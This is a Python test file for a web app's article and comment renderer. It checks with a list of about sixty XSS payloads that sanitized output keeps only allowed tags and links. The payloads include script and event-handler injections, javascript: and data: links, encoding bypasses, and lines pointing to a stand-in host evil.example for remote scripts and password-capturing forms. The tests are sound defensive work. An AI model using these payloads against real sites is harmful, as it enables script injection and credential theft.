"""Nothing of what people write gets through the renderer but what is allowed."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from articles.text import render_article, render_comment
from tests.articles.hostile import TEXTS, assert_safe_article, assert_safe_comment

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://ok.example' onclick=alert(1)>x</a>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](https://ok.example/x.png)',
    "<javascript:alert(1)>",
    "<https://ok.example/?a=<script>alert(1)</script>>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    'https://ok.example/"onmouseover=alert(1)',
    "https://ok.example/'><img/src=x onerror=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```js" onmouseover="alert(1)\ncode\n```',
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
    "*<b onmouseover=alert(1)>x</b>*",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<svg><a xlink:href=javascript:alert(1)>x</a></svg>",
    "<div class=topic id=main tabindex=0>x</div>",
]


@given(TEXTS)
def test_a_comment_of_any_text_has_only_the_tags_attributes_and_links_allowed(text):
    assert_safe_comment(render_comment(text))


@given(TEXTS)
def test_an_article_of_any_text_has_only_the_tags_attributes_and_links_allowed(text):
    assert_safe_article(render_article(text).html)


@given(st.text())
def test_any_unicode_at_all_is_rendered(text):
    assert_safe_comment(render_comment(text))
    assert_safe_article(render_article(text).html)


@pytest.mark.parametrize("text", XSS)
def test_an_attack_does_not_get_through_a_comment(text):
    html = render_comment(text)
    assert_safe_comment(html)
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()


@pytest.mark.parametrize("text", XSS)
def test_an_attack_does_not_get_through_an_article(text):
    html = render_article(text).html
    assert_safe_article(html)
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()


def test_an_attack_in_a_comment_stays_text_on_the_page_of_the_article(reader, article, make_comment):
    make_comment(
        "<script>alert(1)</script> [x](javascript:alert(1))", name="<img src=x onerror=alert(1)>", status="published"
    )
    page = reader.get(article.get_absolute_url()).content.decode()
    assert "<script>alert(1)" not in page
    assert "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
